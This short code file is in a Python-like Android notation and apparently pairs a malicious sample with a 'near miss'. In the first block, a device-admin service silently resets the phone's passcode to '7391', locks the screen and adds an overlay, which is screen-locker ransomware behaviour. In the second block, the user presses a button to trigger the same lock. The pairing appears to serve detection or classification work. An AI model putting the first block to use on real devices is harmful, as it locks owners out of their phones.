permissions("SYSTEM_ALERT_WINDOW", "RECEIVE_BOOT_COMPLETED")

@receiver(permission="BIND_DEVICE_ADMIN", actions=["android.app.action.DEVICE_ADMIN_ENABLED"])
class Admin(DeviceAdminReceiver):
    def onEnabled(self, context, intent):
        context.startService(Intent(context, Lock))

@service
class Lock(Service):
    def onStartCommand(self, intent, flags, number):
        self.lock("7391")
        windows = cast(WindowManager, self.getSystemService("window"))
        windows.addView(TextView(self), WindowManager_LayoutParams(1, 1, 2038, 8, 1))
        return 1
    def lock(self, code: String):
        manager = cast(DevicePolicyManager, self.getSystemService("device_policy"))
        manager.resetPassword(code, 0)
        manager.lockNow()

class Press(View_OnClickListener):
    def onClick(self, view):
        Lock().lock("7391")

# near miss: sets the passcode when its user presses the button
@service
class Lock(Service):
    def onStartCommand(self, intent, flags, number):
        windows = cast(WindowManager, self.getSystemService("window"))
        button = TextView(self)
        button.setOnClickListener(Press())
        windows.addView(button, WindowManager_LayoutParams(1, 1, 2038, 8, 1))
        return 1
    def lock(self, code: String):
        manager = cast(DevicePolicyManager, self.getSystemService("device_policy"))
        manager.resetPassword(code, 0)
        manager.lockNow()
